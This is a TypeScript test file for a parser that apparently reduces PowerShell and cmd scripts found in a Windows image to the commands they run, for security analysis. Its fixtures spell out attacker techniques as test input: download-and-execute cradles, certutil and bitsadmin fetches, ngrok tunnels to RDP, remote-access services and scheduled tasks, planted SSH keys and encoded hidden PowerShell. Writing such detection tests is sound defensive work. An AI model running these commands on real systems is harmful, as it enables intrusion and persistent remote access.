import test from 'ava';
import type {Act} from '../../../src/gather/root/shell/acts.ts';
import {flat, originOf, type Value} from '../../../src/gather/root/shell/values.ts';
import {actsOfLine, actsOfText, readerOf} from '../../../src/gather/root/windows/commands/run.ts';
import {systemOf} from '../../helpers/filesystem.ts';

const shown = (value: Value) => (originOf(value) === 'fixed' ? flat(value) : `<${originOf(value)}>`);
const said = ({program, args, from, outputs}: Act) =>
	[program, ...args.map(shown), ...outputs.map(({path}) => `> ${flat(path)}`), ...from.filter(({program: own}) => own === 'curl').map(() => '< curl')].join(
		' ',
	);
const readAs = (language: 'powershell' | 'cmd', text: string, files: Readonly<Record<string, string>> = {}) =>
	actsOfText(readerOf(systemOf(files)), {value: text, place: {file: 'image/x', range: [0, text.length]}}, language).map(said);
const lineOf = (line: string, files: Readonly<Record<string, string>> = {}) =>
	actsOfLine(readerOf(systemOf(files)), [{origin: 'fixed', text: line, place: {file: 'image/hive'}}], {file: 'image/hive'}).map(said);

/** Texts of PowerShell, and what they must come to among all that they run. */
const powershell: Readonly<Record<string, readonly [text: string, ...acts: string[]]>> = {
	'a script that is piped': ['iwr -useb https://a.com/x | iex', 'eval < curl'],
	'a client of the network': ["iex ((New-Object System.Net.WebClient).DownloadString('https://a.com/x'))", 'eval <fetched> < curl'],
	'a client in a variable': ['$wc = New-Object Net.WebClient\nInvoke-Expression $wc.DownloadString("https://a.com/x")', 'eval <fetched> < curl'],
	'a block that is made of an answer': ['& ([scriptblock]::Create((irm https://a.com/x)))', 'eval <fetched> < curl'],
	'a file, over two lines': [
		'Invoke-WebRequest -Uri "https://a.com/x.zip" `\n  -OutFile C:\\x.zip\nExpand-Archive C:\\x.zip',
		'curl https://a.com/x.zip -o C:\\x.zip',
		'unzip C:\\x.zip',
	],
	'a secure text in a variable': [
		'$p = ConvertTo-SecureString "Abc" -AsPlainText -Force\nSet-LocalUser -Name a -Password $p',
		'set-localuser -Name a -Password Abc',
	],
	'a table of arguments': [
		"$p = @{\n  Name = 'a'\n  Password = (ConvertTo-SecureString 'Abc' -AsPlainText -Force)\n}\nNew-LocalUser @p",
		'new-localuser -Name a -Password Abc',
	],
	'a method of an account': ['$u = [ADSI]"WinNT://./a,user"\n$u.SetPassword("Abc")', 'set-localuser -Password Abc'],
	'a password that is drawn': ['$pw = -join ((33..126) | Get-Random -Count 16 | % {[char]$_})\nnet user a "$pw"', 'net user a <random>'],
	'one of .NET': ['$pw = [System.Web.Security.Membership]::GeneratePassword(16, 4)\nnet user a $pw', 'net user a <random>'],
	'the instance id': ['$id = Invoke-RestMethod http://169.254.169.254/latest/meta-data/instance-id\nnet user a $id', 'net user a <instance-id>'],
	'what is asked for': ['$pw = Read-Host\nnet user a $pw', 'net user a <unknown>'],
	'a sum': ['$pw = "Abc" + \'def\'; net user a $pw', 'net user a Abcdef'],
	'a body in JSON': ['irm -Method Post -Uri https://h.com/a -Body (@{host = $env:COMPUTERNAME} | ConvertTo-Json)', 'curl https://h.com/a -X POST -d <host>'],
	'a function': ['function Set-It($u) { net user $u "Fixed1" }\nSet-It a', 'net user <unknown> Fixed1'],
	'a program with a list of arguments': ['Start-Process -FilePath "C:\\t\\ngrok.exe" -ArgumentList "tcp","3389" -WindowStyle Hidden', 'ngrok tcp 3389'],
	'an installer of another host': ["Start-Process msiexec.exe -ArgumentList '/i https://a.com/x.msi /qn'", 'msiexec /i https://a.com/x.msi /qn < curl'],
	'an upload': ['Write-S3Object -BucketName logs -File C:\\a.log -Key a', 'aws s3 cp C:\\a.log s3://logs/a'],
	'text for a file': ['Set-Content -Path C:\\k -Value "ssh-rsa AAAA"', 'echo ssh-rsa AAAA > C:\\k'],
	'a task that is made': ["New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-c \"iwr https://a.com/x | iex\"'", 'eval < curl'],
};
for (const [name, [text, ...acts]] of Object.entries(powershell))
	test(`PowerShell: ${name}`, (t) => {
		const all = readAs('powershell', text);
		for (const act of acts) t.true(all.includes(act), `${act}\nin\n${all.join('\n')}`);
	});

test('PowerShell: comments and texts run nothing', (t) => {
	t.deepEqual(readAs('powershell', "#net user a b\n<# net user a b #>\n$x = @'\nnet user a b\n'@\n$y = 'net user a b'\n"), []);
});

const cmd: Readonly<Record<string, readonly [text: string, ...acts: string[]]>> = {
	'quotation marks': ['@net user a "b c" /add', 'net user a b c /add'],
	variables: ['set NAME=a\r\nset "WORD=Se^&cret"\r\nnet user %NAME% !WORD!', 'net user a Se&cret'],
	'what is drawn': ['net user a %RANDOM%%RANDOM%', 'net user a <random>'],
	arguments: ['net user a %1', 'net user a <unknown>'],
	blocks: ['if not exist C:\\x (\r\n  net user a b\r\n) else (\r\n  net user c d\r\n)', 'net user a b', 'net user c d'],
	'a loop over what a command prints': [
		'for /f "delims=" %%i in (\'curl -s http://169.254.169.254/latest/meta-data/instance-id\') do set ID=%%i\r\nnet user a %ID%',
		'net user a <instance-id>',
	],
	'start with a title': ['start "" /b "C:\\t\\ngrok.exe" tcp 3389', 'ngrok tcp 3389'],
	certutil: ['certutil -urlcache -split -f https://h.com/b.exe b.exe & b.exe', 'curl https://h.com/b.exe -o b.exe', 'b'],
	bitsadmin: ['bitsadmin /transfer j /download /priority normal https://h.com/c.exe C:\\c.exe', 'curl https://h.com/c.exe -o C:\\c.exe'],
	'PowerShell within': ['powershell -NoProfile -Command "iwr https://a.com/x | iex"', 'eval < curl'],
	'a service that is made': ['sc create t binPath= "C:\\x\\anydesk.exe --service" start= auto', 'anydesk --service'],
	'a task that is made': ['schtasks /create /sc onstart /tn x /tr "C:\\frp\\frpc.exe -c C:\\frp\\frpc.toml"', 'frpc -c C:\\frp\\frpc.toml'],
	redirections: ['echo ssh-rsa AAAA>> C:\\k 2>nul', 'echo  ssh-rsa AAAA > C:\\k'],
};
for (const [name, [text, ...acts]] of Object.entries(cmd))
	test(`cmd: ${name}`, (t) => {
		const all = readAs('cmd', text);
		for (const act of acts) t.true(all.includes(act), `${act}\nin\n${all.join('\n')}`);
	});

test('cmd: comments, labels and the other branch of a name run nothing', (t) => {
	t.deepEqual(readAs('cmd', 'rem net user a b\r\n:: net user a b\r\n:net\r\n'), []);
});

test('cmd: however much stands before a command, it is read', (t) => {
	for (const before of ['@', 'call ', 'else ', 'if 1==1 ', 'for %%i in (x) do '])
		t.deepEqual(readAs('cmd', `${before.repeat(5_000)}net user a b`), ['net user a b'], before);
});

test('PowerShell: commands within one text are read, however many there are', (t) => {
	t.deepEqual(readAs('powershell', `$x = "${'$(a)'.repeat(10_000)}$(b (d))"; net user a b`).slice(-3), ['d', 'b <unknown>', 'net user a b']);
});

test('texts within texts are read, and those that are given too often are called', (t) => {
	t.deepEqual(readAs('cmd', `${'cmd /c '.repeat(5)}net user a b`), ['net user a b']);
	t.deepEqual(readAs('cmd', `${'cmd /c '.repeat(14_000)}\nnet user a b`), ['net user a b']);
	t.deepEqual(readAs('powershell', `${'cmd /c '.repeat(14_000)}\nnet user a b`), ['net user a b']);
	const said = readAs('cmd', `set x=${'a'.repeat(1_990)}\nset y=${'%x%'.repeat(30)}\n${'cmd /c %y%\n'.repeat(100)}net user a b`);
	t.is(said.length, 101);
	t.true(said[0]?.startsWith('aaa'));
	t.true(said[99]?.startsWith('cmd /c aaa'));
	t.is(said[100], 'net user a b');
});

test('cmd: a long word that programs are given too often is not known', (t) => {
	const said = readAs('cmd', `set x=${'a'.repeat(1_990)}\nset y=${'%x%'.repeat(30)}\n${'b %y%\n'.repeat(2_000)}`);
	t.is(said[0], `b ${'a'.repeat(59_700)}`);
	t.is(said.at(-1), 'b <unknown>');
	t.is(said.length, 2_000);
});

test('a command line is taken apart as Windows does', (t) => {
	t.deepEqual(lineOf('C:\\Program Files\\Larkspur\\q.exe -k x'), ['q -k x']);
	t.deepEqual(lineOf('"C:\\Program Files\\Larkspur\\q.exe" "a b"'), ['q a b']);
	t.deepEqual(lineOf('cmd.exe /c "net user a b & net user c d"'), ['net user a b', 'net user c d']);
	const encoded = Buffer.from('net user a b', 'utf16le').toString('base64');
	t.deepEqual(lineOf(`powershell -nop -w hidden -enc ${encoded}`), ['net user a b']);
});

test('scripts of the image are followed, each once', (t) => {
	const files = {
		'ProgramData/L/a.cmd': '@call "%~dp0b.ps1"\r\npowershell -File C:\\ProgramData\\L\\b.ps1\r\n',
		'ProgramData/L/b.ps1': 'net user a b\n& C:\\ProgramData\\L\\a.cmd\n',
	};
	t.deepEqual(
		lineOf('C:\\ProgramData\\L\\a.cmd', files).filter((line) => line.startsWith('net')),
		['net user a b'],
	);
	t.deepEqual(
		lineOf('%ProgramData%\\L\\b.ps1', files).filter((line) => line.startsWith('net')),
		['net user a b'],
	);
});

test('hostile texts come to an end', (t) => {
	const long = (piece: string) => piece.repeat(Math.floor(30_000 / piece.length));
	const texts = [
		'(',
		'{',
		'$(',
		'@{',
		'"',
		"'",
		'@"\n',
		'|',
		'a|',
		'.a(',
		'$a.b(',
		'$a=',
		',',
		'`\n',
		'%a',
		'%%a',
		'!a',
		'^',
		'&',
		'if a==',
		'for %%a in (',
		'set a=%a%%a%\n',
		'$a=$a+$a\n',
		'"$($(',
		'a;',
		'<#',
		'<#\n',
		'[a',
		'-a ',
	];
	for (const piece of texts) {
		const start = process.cpuUsage();
		readAs('powershell', long(piece));
		readAs('cmd', long(piece));
		lineOf(long(piece));
		// Of this process alone: other tests run beside it.
		const {user} = process.cpuUsage(start);
		t.true(user < 5_000_000, `${JSON.stringify(piece)} took ${user} µs`);
	}
});
